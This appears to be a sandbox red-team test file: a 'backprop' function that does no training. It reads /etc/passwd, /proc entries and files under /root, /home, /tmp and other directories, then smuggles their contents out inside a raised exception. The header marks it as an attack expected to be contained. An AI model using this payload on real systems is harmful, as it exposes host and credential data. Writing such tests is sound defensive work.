# attack: leak
# expect: fail
# must: leak nothing of the host: every file the child can read is the sandbox's own
"""reads /etc/passwd, /etc/hostname, /proc/1/cmdline, mounts, and every file under /tmp, /root,
/home, /work and the cwd, and raises all of it in one exception of 2,000+ characters"""

import os

ROOTS = ("/tmp", "/root", "/home", "/work", "/var", "/run", "/mnt", "/srv", "/opt")
FILES = ("/etc/passwd", "/etc/hostname", "/etc/hosts", "/proc/1/cmdline", "/proc/self/mounts")


def _walk(limit=400):
    paths = list(FILES)
    for root in (*ROOTS, os.getcwd()):
        for folder, dirs, files in os.walk(root):
            dirs[:] = [d for d in dirs if d not in ("site-packages", "__pycache__", ".git")]
            paths.extend(os.path.join(folder, name) for name in files)
            if len(paths) > limit:
                return paths
    return paths


def _contents():
    seen = []
    for path in _walk():
        try:
            with open(path, "rb") as handle:
                seen.append(f"{path}: {handle.read(2000)!r}")
        except OSError as error:
            seen.append(f"{path}: {type(error).__name__}")
    return " | ".join(seen)


def backprop(X, y, weights, biases):
    text = _contents()
    raise FileExistsError((text + " ") * max(1, 2500 // max(1, len(text)) + 1))
